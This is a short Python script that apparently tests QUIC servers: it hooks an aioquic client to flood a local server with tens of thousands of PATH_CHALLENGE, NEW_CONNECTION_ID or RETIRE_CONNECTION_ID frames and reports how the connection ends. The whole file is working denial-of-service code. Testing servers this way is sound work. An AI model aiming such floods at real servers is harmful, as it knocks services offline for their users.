"""Frames of QUIC that only make work, with aioquic: `flood.py PORT KIND`. Prints why and how the connection has ended, or that it has not."""

import asyncio
import os
import ssl
import sys

from aioquic.asyncio.client import connect
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.packet import QuicFrameType, QuicPacketType

FRAMES = 30_000


def push(builder, crypto, kind, number):
    """Writes a packet full of frames; the number of the next."""
    builder.start_packet(QuicPacketType.ONE_RTT, crypto)
    while builder.remaining_flight_space > 80:
        if kind == "path":
            builder.start_frame(QuicFrameType.PATH_CHALLENGE, capacity=9).push_bytes(os.urandom(8))
        elif kind == "ids":
            # Each retires all before it.
            frame = builder.start_frame(QuicFrameType.NEW_CONNECTION_ID, capacity=60)
            frame.push_uint_var(number)
            frame.push_uint_var(number)
            frame.push_uint8(8)
            frame.push_bytes(os.urandom(24))
        else:
            builder.start_frame(QuicFrameType.RETIRE_CONNECTION_ID, capacity=9).push_uint_var(number)
        number += 1
    return number


async def main(port, kind):
    configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE, server_name="localhost")
    async with connect("127.0.0.1", port, configuration=configuration) as client:
        quic = client._quic
        write = quic._write_application
        # Those that were exchanged by the handshake come first.
        state = {"number": 20 if kind == "ids" else 1}

        def flood(builder, network_path, now):
            write(builder, network_path, now)
            crypto = next(iter(found for epoch, found in quic._cryptos.items() if epoch.name == "ONE_RTT"))
            if crypto.send.is_valid() and state["number"] < FRAMES:
                try:
                    state["number"] = push(builder, crypto, kind, state["number"])
                except Exception:  # There is no room for more in this flight.
                    pass

        quic._write_application = flood
        ended = asyncio.create_task(client.wait_closed())
        # A client that has retired all ids that it knows gets nothing any more, and can send no more than fits a window.
        until = asyncio.get_running_loop().time() + 3
        while not ended.done() and state["number"] < FRAMES and asyncio.get_running_loop().time() < until:
            quic.send_ping(state["number"])
            client.transmit()
            await asyncio.sleep(0)
        quic._write_application = write
        # Only ids that the server has not given end the connection, however late.
        await asyncio.wait([ended], timeout=None if kind == "retire" else 1)
        event = quic._close_event
        print(f"{event.error_code:#x} {event.reason_phrase}" if event else "goes on", state["number"])
        client.close()


asyncio.run(asyncio.wait_for(main(int(sys.argv[1]), sys.argv[2]), 300))
